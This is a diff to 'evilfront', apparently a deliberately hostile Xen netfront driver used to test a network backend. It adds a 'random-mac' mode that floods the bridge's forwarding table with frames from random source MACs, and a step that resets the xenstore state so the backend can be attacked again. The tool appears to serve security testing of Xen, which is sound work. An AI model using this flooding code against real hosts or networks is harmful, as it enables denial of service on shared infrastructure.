@@ -36,6 +36,8 @@
  *   no-rx          (f) no RX buffers posted (those posted are used up)
  *   tiny-head      (h) frames whose headers come in 18 one-byte slots
  *                      (XSA-423/432), then 100 bytes of payload: legal
+ *   random-mac     (i) legal 60-byte frames, each from a new random
+ *                      (locally administered) source MAC: FDB exhaustion
  *   good               never attacks (a baseline attacker)
  *
  * Output (stdout, one line each): "evilfront: connected ...", "evilfront:
@@ -190,6 +192,23 @@ static void send_hello(struct ef *e)
 }
 
 /* One frame attack, if the pace and the ring allow. */
+static void random_mac_frame(struct ef *e)
+{
+    uint8_t f[60] = { 0 };
+    uint32_t r = (uint32_t)random();
+    memcpy(f, e->dst, 6);
+    f[6] = 0x02;                    /* unicast, locally administered */
+    f[7] = 0x66;
+    memcpy(f + 8, &r, 4);
+    f[12] = 0x88;
+    f[13] = 0xb5;
+    if (nf_send(e->nf, f, sizeof f, NULL) == 0) {
+        nf_flush(e->nf);
+        e->tokens -= 1;
+        e->sent++;
+    }
+}
+
 static void frame_attack(struct ef *e)
 {
     static struct nf_raw_slot s[NF_TX_IDS];
@@ -203,6 +222,10 @@ static void frame_attack(struct ef *e)
         e->tokens = e->fps / 10.0 + 1;
     if (e->tokens < 1)
         return;
+    if (!strcmp(e->mode, "random-mac")) {
+        random_mac_frame(e);
+        return;
+    }
     memcpy(fill, e->dst, 6);
     memcpy(fill + 6, e->mac, 6);
     memset(s, 0, sizeof s);
@@ -268,7 +291,8 @@ static void attack_step(struct ef *e)
 static void usage(void)
 {
     fprintf(stderr, "usage: evilfront -n DEVID -m MODE [-d DSTMAC] [-r FPS] [-p PIDFILE]\n"
-            "modes: prod-jump slots:N bad-offset bad-gref revoked-mid storm no-rx tiny-head good\n");
+            "modes: prod-jump slots:N bad-offset bad-gref revoked-mid storm no-rx tiny-head "
+            "random-mac good\n");
     exit(2);
 }
 
@@ -295,6 +319,7 @@ int main(int argc, char **argv)
     if (!devid || !e.fps)
         usage();
     setvbuf(stdout, NULL, _IOLBF, 0);
+    srandom((unsigned)getpid());
     signal(SIGUSR1, on_signal);
     signal(SIGUSR2, on_signal);
     signal(SIGTERM, on_signal);
@@ -324,6 +349,12 @@ int main(int argc, char **argv)
         return 1;
     }
     snprintf(e.be, sizeof e.be, "%s", be);
+    /* Initialising, as netfront's probe does: a backend left Closed (or
+     * Connected) by an earlier try on this vif offers InitWait again. */
+    if (xs_put(&e, "state", "1")) {
+        printf("evilfront: %s: cannot write state: %s\n", e.fe, strerror(errno));
+        return 1;
+    }
     printf("evilfront: %s: backend %s, waiting for InitWait\n", e.fe, e.be);
     int s = wait_backend(&e, 2);
     if (s != 2) {
